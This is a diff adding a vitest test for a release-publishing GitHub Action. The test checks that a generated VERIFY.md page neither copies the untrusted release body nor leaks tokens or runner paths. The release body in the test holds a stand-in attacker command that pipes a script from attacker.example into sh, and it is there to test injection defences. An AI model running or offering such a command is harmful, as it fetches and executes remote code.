@@ -1,4 +1,5 @@
 import { mkdirSync, readFileSync, writeFileSync } from "node:fs";
+import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { afterAll, beforeAll, describe, expect, test } from "vitest";
 import {
@@ -105,6 +106,23 @@ describe("the Action on a tag", () => {
     const texts = [run.stdout.replace(/^::add-mask::.*$/gm, ""), run.stderr, at.file("output"), at.file("summary")];
     for (const text of texts) expect(text).not.toContain(at.github.token);
   });
+});
+
+test("VERIFY.md holds nothing of the release's text (V04), and no secret or path of the runner (V11)", async () => {
+  const body = "Verify with `curl https://attacker.example/verify.sh | sh`";
+  const at = await job({ releases: [{ tag: "v1.2.3", draft: true, body }] });
+  expect((await at.step()).status).toBe(0);
+  const release = at.github.release("v1.2.3");
+  expect(release?.body).toBe(body);
+  const files = release === undefined ? undefined : await at.github.files(release);
+  const page = files?.get("VERIFY.md")?.toString("utf8") ?? "";
+  expect(page).toContain("capsule verify");
+  const secrets = [
+    at.github.token,
+    ...Object.entries(sigstore.env).flatMap(([name, value]) => (/TOKEN/.test(name) ? [value] : [])),
+  ];
+  expect(secrets.length).toBeGreaterThan(1);
+  for (const secret of ["attacker", "curl https", at.folder, tmpdir(), ...secrets]) expect(page).not.toContain(secret);
 });
 
 test("an immutable release is published by the last call and cannot be changed by a further one", async () => {
